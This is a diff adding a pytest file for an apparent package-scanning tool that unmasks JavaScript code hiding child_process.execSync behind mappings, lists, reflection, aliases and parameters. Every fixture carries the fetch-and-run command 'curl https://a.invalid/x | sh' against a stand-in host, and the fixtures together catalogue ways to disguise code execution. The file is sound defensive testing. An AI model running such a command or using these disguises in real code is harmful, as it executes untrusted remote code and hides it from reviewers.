@@ -1,0 +1,60 @@
+"""A script's call that takes a detour is written as the call that it is, and what it is given comes out."""
+
+from __future__ import annotations
+
+import pytest
+
+from packtool.code import unmask_text
+
+CP = 'const cp = require("child_process");\n'
+RUN = 'child_process.execSync("curl https://a.invalid/x | sh")'
+DETOURS = {
+    "a mapping": 'const t = {r: cp.execSync};\nt.r("curl https://a.invalid/x | sh")',
+    "a mapping by a key": 'const t = {"r": cp.execSync};\nt["r"]("curl https://a.invalid/x | sh")',
+    "a list": 'const t = [cp.execSync];\nt[0]("curl https://a.invalid/x | sh")',
+    "an object's attribute": "class A { constructor() { this.t = {r: cp.execSync} }\n"
+    'go() { this.t.r("curl https://a.invalid/x | sh") } }',
+    "another name": 'const f = cp.execSync.bind(cp);\nf("curl https://a.invalid/x | sh")',
+    "a module in a mapping": 'const t = {m: require("child_process")};\n'
+    't.m["exec" + "Sync"]("curl https://a.invalid/x | sh")',
+    "a reflection": 'Reflect.get(cp, "execSync")("curl https://a.invalid/x | sh")',
+    "a function that returns it": 'const f = () => cp.execSync;\nf()("curl https://a.invalid/x | sh")',
+    "a map": 'const m = new Map([["a", cp.execSync]]);\nm.get("a")("curl https://a.invalid/x | sh")',
+    "another name for an import": 'const {execSync: x} = require("child_process");\nx("curl https://a.invalid/x | sh")',
+}
+HANDED = {
+    "a parameter": 'function go(f, c) { return f(c); }\ngo(cp.execSync, "curl https://a.invalid/x | sh")',
+    "a default": 'function go(c, f = cp.execSync) { return f(c); }\ngo("curl https://a.invalid/x | sh")',
+    "a list that is gone through": '["curl https://a.invalid/x | sh"].map(cp.execSync)',
+}
+HONEST = [
+    'const t = {r: cp.execSync, s: print};\nt.s("curl https://a.invalid/x | sh")',
+    'const t = {run: start};\nt.run("curl https://a.invalid/x | sh")',
+    "const list = [1, 2];\nlist.map(cp)",
+]
+
+
+@pytest.mark.parametrize("text", DETOURS.values(), ids=DETOURS.keys())
+def test_the_call_is_written_out(text: str) -> None:
+    found = unmask_text(CP + text, "javascript")
+    assert found.renamed
+    assert RUN in found.source
+    assert [layer.text for layer in found.layers] == ["curl https://a.invalid/x | sh"]
+
+
+@pytest.mark.parametrize("text", HANDED.values(), ids=HANDED.keys())
+def test_what_is_handed_on_comes_out(text: str) -> None:
+    found = unmask_text(CP + text, "javascript")
+    assert [(layer.text, layer.language) for layer in found.layers] == [("curl https://a.invalid/x | sh", "shell")]
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_other_calls_stay(text: str) -> None:
+    found = unmask_text(CP + text, "javascript")
+    assert found.source == CP + text
+    assert found.layers == ()
+
+
+def test_text_that_is_run_is_named() -> None:
+    found = unmask_text("const t = {run: eval};\nfetch(u).then(t.run);\nt.run(x)", "javascript")
+    assert found.source.endswith("\neval(x)")
